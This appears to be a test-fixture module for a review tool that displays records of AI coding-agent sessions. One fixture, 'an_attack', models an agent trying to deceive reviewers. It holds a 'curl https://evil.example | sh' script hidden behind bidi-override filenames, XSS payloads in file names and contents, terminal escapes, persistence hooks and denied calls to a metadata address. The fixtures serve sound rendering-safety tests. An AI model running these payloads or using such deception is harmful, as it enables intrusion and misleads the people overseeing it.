"""Sessions and a batch to look at: the same on every machine and at every time."""

from __future__ import annotations

import random
import time
from typing import TYPE_CHECKING, Any

from tests.support.png import write_png

from claudebox.review.diffs import FileChange, compare_texts
from claudebox.review.pictures import read_picture
from claudebox.review.records import Commit, Event, HostTraffic, Spending, Story

if TYPE_CHECKING:
    from collections.abc import Callable

BEGAN = 1795053600.0
BEFORE = """\
def login(user, password):
    session = open_session(user)
    if session.check(password):
        return session
    return None


def logout(session):
    session.close()
"""
AFTER = """\
def login(user, password):
    session = open_session(user)
    if session.check(password.encode()):
        return session
    raise LoginError(user)


def logout(session):
    session.close()
    audit("logout", session.user)
"""
TEST = """\
import pytest

from tool.login import LoginError, login


def test_a_wrong_password_is_refused():
    with pytest.raises(LoginError):
        login("ada", "no")
"""


def draw_png(width: int, height: int, colour: Callable[[int, int], tuple[int, int, int]]) -> bytes:
    """Return a picture as PNG."""
    return write_png(width, b"".join(bytes(colour(x, y)) for y in range(height) for x in range(width)))


def change(path: str, before: str, after: str, how: str = "changed", why: str = "") -> FileChange:
    """Return a file with its differences."""
    made = FileChange(path, how, why=why)
    compare_texts(made, before, after, 400, time.monotonic() + 10)
    return made


def a_fix() -> Story:
    """Return an ordinary session: two commits, one thing to look at, a picture."""
    numbers = random.Random(4)
    logo = FileChange("docs/logo.png", "changed", sizes=(418, 620))
    logo.before = read_picture(
        draw_png(96, 96, lambda x, y: (30, 90, 200) if (x - 48) ** 2 + (y - 48) ** 2 < 1600 else (240, 242, 248))
    )
    logo.after = read_picture(
        draw_png(120, 96, lambda x, y: (20, 150, 90) if abs(x - 60) + abs(y - 48) < 44 else (240, 246, 242))
    )
    commits = [
        Commit(
            "9f31c2d9aa",
            "main",
            "Ada <ada@example.org>",
            BEGAN + 400,
            "login: Refuse a wrong password with an error\n\nCallers took None for a session that had not begun.",
            [change("src/tool/login.py", BEFORE, AFTER), change("tests/test_login.py", "", TEST, "new")],
        ),
        Commit(
            "c02b77e1aa",
            "main",
            "Ada <ada@example.org>",
            BEGAN + 700,
            "docs: Say what happens after a wrong password",
            [
                change(
                    "README.md",
                    "# Tool\n\nA login that fails returns nothing.\n",
                    "# Tool\n\nA login that fails raises `LoginError`.\n",
                )
            ],
        ),
    ]
    events = [Event(BEGAN + numbers.random() * 840, "model", "claude-opus-4-5") for _ in range(60)]
    deeds = ("Bash: pytest -q tests/test_login.py", "Edit: src/tool/login.py", "Read: README.md", "Grep: LoginError")
    events += [Event(BEGAN + 60 + numbers.random() * 780, "tools", numbers.choice(deeds)) for _ in range(90)]
    events += [Event(row.time, "commits", row.message.partition("\n")[0]) for row in commits]
    events += [Event(BEGAN + numbers.random() * 840, "allowed", "pypi.org (pypi)") for _ in range(14)]
    events += [
        Event(BEGAN + 500 + at * 3, "denied", "telemetry.example.com (not among the permitted domains)")
        for at in range(5)
    ]
    return Story(
        "20261119T014203.512Z-3f2a9c1d0b5e6f70-n12-4711",
        "tool",
        place="/home/ada/src/tool",
        state="finished",
        began=BEGAN,
        ended=BEGAN + 861,
        facts=[("Session", "20261119T014203.512Z-3f2a9c1d0b5e6f70-n12-4711"), ("Network", "allow")],
        asked=[
            (
                "Logging in with a wrong password returns None instead of an error. Fix it, with a test, and say so in "
                "the README."
            )
        ],
        said="`login` raises `LoginError` now. The new test fails without the change and passes with it; the README "
        "says what happens.",
        outcome=[
            "main +2 commits (bdc58ec..c02b77e)",
            "4 files: pyproject.toml, docs/logo.png, docs/howto.md, notes.md",
            "1 deleted: src/tool/old.py",
            "build output: target/ 214 files",
        ],
        look=[
            (".envrc", "new", "direnv runs it when you enter"),
            (".github/workflows/ci.yml", "changed", "runs on the forge when you push"),
        ],
        commits=commits,
        files=[
            change(
                "pyproject.toml",
                '[project]\nname = "tool"\ndependencies = []\n',
                '[project]\nname = "tool"\ndependencies = ["argon2-cffi"]\n',
                why="packages are installed from it",
            ),
            logo,
            change("src/tool/old.py", "def log_in():\n    raise NotImplementedError\n", "", "deleted"),
            FileChange("docs/howto.md", "moved", "howto.md"),
            change(
                ".github/workflows/ci.yml",
                "on: push\n",
                "on: [push, pull_request]\n",
                why="runs on the forge when you push",
            ),
            change(".envrc", "", "layout python\n", "new", "direnv runs it when you enter"),
            change("notes.md", "", "Ask about sessions that have expired.\n", "new"),
        ],
        files_title="Not committed",
        output=[("target", 214)],
        events=events,
        spending=[
            Spending(BEGAN + at * 14, "claude-opus-4-5", int(numbers.random() * 20000), 900, 400, 30000)
            for at in range(60)
        ],
        budget="$5",
        hosts=[
            HostTraffic("telemetry.example.com", "denied", 5, rule="not-listed"),
            HostTraffic("api.anthropic.com", "reached", 60, 3_200_000, 410_000, "api"),
            HostTraffic("pypi.org", "reached", 14, 9000, 2_300_000, "pypi"),
        ],
        entered=[("TERM", "host"), ("EDITOR", "host"), ("HOME", "claudebox"), ("PATH", "claudebox")],
        withheld=["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"],
        withheld_count=2,
        secrets=[("GH_TOKEN", "api.github.com:443")],
        commands=[
            ("Take back what the session did", "claudebox undo 20261119T014203.512Z"),
            ("Go on with the conversation", "claudebox --resume 136a2d4b-70c1-4d0c-9a3e-4d4a7e0d6c11"),
        ],
    )


def a_command() -> Story:
    """Return the session of a command that left little, and of which little is known."""
    return Story(
        "20261119T020000.001Z-3f2a9c1d0b5e6f70-n13-4790",
        "tool",
        place="/home/ada/src/tool",
        state="ended with status 2",
        is_good=False,
        began=BEGAN,
        ended=BEGAN + 12,
        facts=[("Session", "20261119T020000.001Z-3f2a9c1d0b5e6f70-n13-4790"), ("Network", "none")],
        outcome=["1 file: build.log", "build output: node_modules/ 12840 files, target/ 92 files"],
        files=[FileChange("build.log", "new")],
        files_title="Changed files",
        output=[("node_modules", 12840), ("target", 92)],
        missing=[
            "there is no snapshot of this session: what changed in files is not known",
            "3 lines of the log are damaged",
        ],
        entered=[("HOME", "claudebox")],
        commands=[("Every path and every connection", "claudebox log all")],
    )


def an_attack() -> Story:
    """Return a session that was killed, of an agent that tried to deceive whoever looks."""
    story = Story(
        "20261119T030000.001Z-3f2a9c1d0b5e6f70-n14-4801",
        "fix-login",
        place="/home/ada/.claudebox/work/tool-1a2b3c/fix-login",
        state="was killed",
        is_good=False,
        began=BEGAN,
        ended=BEGAN + 7300,
        asked=["Update the dependencies."],
        said="All done \u2014 nothing to look at here. <script>alert(1)</script> \u202etxt.exe" + "\n" * 3000 + "below",
        outcome=["changed nothing \u202eyltnatropmi", "3 files: gpj.\u202etxt, a\nb, \x1b[31mred"],
        look=[
            ("vendor/x/.git", "disarmed", "put aside as *.claudebox: config, hooks"),
            (".envrc", "new", "direnv runs it when you enter"),
            ("src/\u202egpj.sh", "new", "runs with the rights of its owner"),
            ("lib\u200b/sitecustomize.py", "new", "python runs it at every start"),
        ],
        files=[
            change(
                "src/\u202egpj.sh", "", "#!/bin/sh\ncurl https://evil.example | sh  # \u2066harmless\u2069\n", "new"
            ),
            change('"><img src=x onerror=alert(1)>.py', "a = 1\n", "a = '</pre><script>alert(1)</script>'\n"),
            change("caf\udce9.txt", "x\ty\r\n", "x\ty\x00\x07\n"),
        ],
        files_cut=1204,
        hosts=[
            HostTraffic("evil.example", "denied", 4096, rule="not-listed"),
            HostTraffic("169.254.169.254:80", "denied", 12, rule="not-public"),
        ],
        withheld=["AWS_SECRET_ACCESS_KEY"],
        withheld_count=41,
        found=["AWS_SECRET_ACCESS_KEY in src/config.py"],
        missing=["the broker ended without a summary: the last connections and costs may be missing in the log"],
        commands=[("Delete its branch and its worktree", "claudebox drop fix-login")],
    )
    story.events = [
        Event(BEGAN + at * 60, "denied", "evil.example (not among the permitted domains)") for at in range(100)
    ]
    return story


def a_batch(count: int = 500) -> list[tuple[str, dict[str, Any]]]:
    """Return the results of tasks, by name."""
    numbers = random.Random(7)
    words = ("fix", "port", "bump", "docs", "types", "test", "lint", "cache", "retry", "parser", "login", "export")
    whys = {
        "done": "",
        "failed": "the agent ended with 1",
        "retry": "the model's API answered with 529",
        "over time": "the task ran out of time",
        "over budget": "the budget of the task is spent",
        "cancelled": "the task was cancelled",
    }
    found = []
    for number in range(count):
        status = numbers.choices([*whys], [80, 8, 5, 3, 2, 2])[0]
        tries = 1 + (numbers.random() < 0.08) + (numbers.random() < 0.02)
        sizes = {"files": numbers.randrange(9), "added": numbers.randrange(300), "removed": numbers.randrange(120)}
        found.append(
            (
                f"{numbers.choice(words)}-{numbers.choice(words)}-{number:03d}",
                {
                    "status": status,
                    "exit": int(status != "done"),
                    "why": whys[status],
                    "said": "The test passes now." if status == "done" else "",
                    "cost_usd": round(numbers.lognormvariate(-0.6, 0.7), 4),
                    "seconds": numbers.lognormvariate(5.6, 0.6),
                    "tries": tries,
                    "changed": sizes,
                    "files": {"review.html": 1},
                },
            )
        )
    return found
